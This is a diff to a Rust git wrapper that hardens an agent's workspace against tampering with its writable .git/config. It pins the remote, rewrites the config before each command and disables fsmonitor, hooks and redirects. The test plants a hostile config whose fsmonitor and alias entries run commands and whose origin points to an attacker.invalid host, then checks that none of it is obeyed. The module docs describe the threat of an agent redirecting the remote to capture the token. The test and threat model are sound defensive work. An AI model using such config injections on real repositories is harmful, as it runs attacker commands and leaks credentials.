@@ -4,6 +4,12 @@
 //! `http.extraHeader` for the one command): never in a URL, never in argv (visible in `ps`),
 //! never in `.git/config`. `GIT_TERMINAL_PROMPT=0` makes a bad token fail instead of waiting for
 //! a password, and every error text is scrubbed of the token before it goes anywhere.
+//!
+//! The workspace's `.git` is writable by the agent, and git runs here with our privileges, so
+//! nothing in it is trusted: the remote is always the URL we cloned from (never `origin`, which
+//! the agent could point elsewhere to receive our token), and before every command `.git/config`
+//! is rewritten to a known-safe minimum (it could otherwise carry `core.fsmonitor`, filter
+//! drivers, `include.path`… — commands git would run for us). Hooks are disabled as well.
 
 use crate::config::Secret;
 use std::{
@@ -37,13 +43,16 @@ pub struct Author {
 #[derive(Clone)]
 pub struct Git {
     dir: PathBuf,
+    /// The one remote this workspace talks to (clone, fetch, push), whatever `.git` says.
+    remote: String,
     token: Option<Secret>,
 }
 
 impl Git {
-    pub fn new(dir: impl Into<PathBuf>, token: Option<Secret>) -> Git {
+    pub fn new(dir: impl Into<PathBuf>, remote: impl Into<String>, token: Option<Secret>) -> Git {
         Git {
             dir: dir.into(),
+            remote: remote.into(),
             token: token.filter(|t| !t.is_empty()),
         }
     }
@@ -52,15 +61,18 @@ impl Git {
         &self.dir
     }
 
-    /// Clones `url` into this directory (which must not exist or be empty).
-    pub async fn clone_from(&self, url: &str) -> Result<(), GitError> {
+    /// Clones the remote into this directory (which must not exist or be empty).
+    pub async fn clone_repo(&self) -> Result<(), GitError> {
         let parent = self.dir.parent().unwrap_or(Path::new("."));
         tokio::fs::create_dir_all(parent)
             .await
             .map_err(GitError::Spawn)?;
         let dest = self.dir.to_string_lossy().to_string();
-        self.run_in(parent, &["clone", "--no-tags", "--quiet", url, &dest])
-            .await?;
+        self.run_in(
+            parent,
+            &["clone", "--no-tags", "--quiet", &self.remote, &dest],
+        )
+        .await?;
         Ok(())
     }
 
@@ -88,7 +100,7 @@ impl Git {
     pub async fn checkout_remote_branch(&self, branch: &str) -> Result<Option<String>, GitError> {
         let refspec = format!("+refs/heads/{branch}:refs/remotes/origin/{branch}");
         if self
-            .run(&["fetch", "--quiet", "origin", &refspec])
+            .run(&["fetch", "--quiet", &self.remote, &refspec])
             .await
             .is_err()
         {
@@ -155,7 +167,7 @@ impl Git {
             .run(&[
                 "ls-remote",
                 "--heads",
-                "origin",
+                &self.remote,
                 &format!("refs/heads/{branch}"),
             ])
             .await?;
@@ -170,13 +182,52 @@ impl Git {
             "--force-with-lease=refs/heads/{branch}:{}",
             last_pushed.unwrap_or("")
         );
-        self.run(&["push", "--quiet", "--no-verify", &lease, "origin", &refspec])
-            .await?;
+        self.run(&[
+            "push",
+            "--quiet",
+            "--no-verify",
+            &lease,
+            &self.remote,
+            &refspec,
+        ])
+        .await?;
         Ok(())
     }
 
     async fn run(&self, args: &[&str]) -> Result<String, GitError> {
+        self.sanitize_config().await?;
         self.run_in(&self.dir, args).await
+    }
+
+    /// Rewrites `.git/config` to what a fresh clone needs and nothing else (see the module docs).
+    /// Only the object format is carried over, as it decides how the repository is read.
+    async fn sanitize_config(&self) -> Result<(), GitError> {
+        let path = self.dir.join(".git").join("config");
+        let Ok(current) = tokio::fs::read_to_string(&path).await else {
+            return Ok(()); // no repository yet (before the clone)
+        };
+        let sha256 = current.lines().any(|l| {
+            let l = l.trim().to_ascii_lowercase().replace(' ', "");
+            l == "objectformat=sha256"
+        });
+        let mut safe =
+            String::from("[core]\n\tbare = false\n\tlogallrefupdates = true\n\tfilemode = true\n");
+        if sha256 {
+            safe.push_str("\trepositoryformatversion = 1\n[extensions]\n\tobjectformat = sha256\n");
+        } else {
+            safe.push_str("\trepositoryformatversion = 0\n");
+        }
+        // `origin` keeps local remote-tracking refs meaningful; pushes never go through it.
+        safe.push_str(&format!(
+            "[remote \"origin\"]\n\turl = {}\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n",
+            self.remote
+        ));
+        if current != safe {
+            tokio::fs::write(&path, safe)
+                .await
+                .map_err(GitError::Spawn)?;
+        }
+        Ok(())
     }
 
     async fn run_in(&self, cwd: &Path, args: &[&str]) -> Result<String, GitError> {
@@ -195,6 +246,7 @@ impl Git {
             .kill_on_drop(true)
             .env("GIT_TERMINAL_PROMPT", "0")
             .env("GIT_ASKPASS", "/bin/true")
+            .env("GIT_CONFIG_NOSYSTEM", "1")
             .env("LC_ALL", "C");
         for (key, value) in self.config_env() {
             cmd.env(key, value);
@@ -232,7 +284,10 @@ impl Git {
         let mut pairs = vec![
             ("safe.directory".to_string(), "*".to_string()),
             ("core.hooksPath".to_string(), "/dev/null".to_string()),
+            ("core.fsmonitor".to_string(), "false".to_string()),
             ("credential.helper".to_string(), String::new()),
+            // Never follow a redirect to another host with our header.
+            ("http.followRedirects".to_string(), "false".to_string()),
         ];
         if let Some(token) = &self.token {
             pairs.push((
@@ -361,7 +416,11 @@ mod tests {
 
     #[test]
     fn scrub_removes_raw_and_encoded_tokens() {
-        let git = Git::new("/tmp", Some(Secret::new("ghs_secret")));
+        let git = Git::new(
+            "/tmp",
+            "https://example.com/o/r.git",
+            Some(Secret::new("ghs_secret")),
+        );
         let header = basic_credentials("ghs_secret");
         let text = format!("fatal: https://x:ghs_secret@host and Authorization: Basic {header}");
         let clean = git.scrub(&text);
@@ -409,8 +468,8 @@ mod tests {
     async fn clone_branch_commit_push_round_trip() {
         let root = tempfile::tempdir().unwrap();
         let url = remote(root.path()).await;
-        let git = Git::new(root.path().join("ws"), None);
-        git.clone_from(&url).await.unwrap();
+        let git = Git::new(root.path().join("ws"), &url, None);
+        git.clone_repo().await.unwrap();
         assert_eq!(git.default_branch().await.unwrap(), "main");
         let base = git.create_branch("amp/x-test", "main").await.unwrap();
         assert!(!git.has_uncommitted_changes().await.unwrap());
@@ -435,8 +494,8 @@ mod tests {
         );
 
         // A second clone (a restart) picks the branch up where the remote has it.
-        let again = Git::new(root.path().join("ws2"), None);
-        again.clone_from(&url).await.unwrap();
+        let again = Git::new(root.path().join("ws2"), &url, None);
+        again.clone_repo().await.unwrap();
         assert_eq!(
             again
                 .checkout_remote_branch("amp/x-test")
@@ -448,6 +507,27 @@ mod tests {
         assert_eq!(
             again.checkout_remote_branch("amp/nope").await.unwrap(),
             None
+        );
+
+        // What the agent writes into .git/config is not obeyed by our git.
+        let marker = root.path().join("pwned");
+        let evil = format!(
+            "[core]\n\tfsmonitor = touch {m}\n[alias]\n\tst = !touch {m}\n[remote \"origin\"]\n\turl = http://attacker.invalid/x.git\n",
+            m = marker.display()
+        );
+        std::fs::write(git.dir().join(".git/config"), evil).unwrap();
+        std::fs::write(git.dir().join("more.txt"), "x\n").unwrap();
+        assert!(git.has_uncommitted_changes().await.unwrap());
+        git.commit_all(&author, "amp: more").await.unwrap();
+        git.push("amp/x-test", Some(&sha)).await.unwrap();
+        assert!(
+            !marker.exists(),
+            "a command from the agent's .git/config ran"
+        );
+        let config = std::fs::read_to_string(git.dir().join(".git/config")).unwrap();
+        assert!(
+            !config.contains("attacker") && config.contains(&url),
+            "{config}"
         );
 
         // Errors name the command and carry git's message.
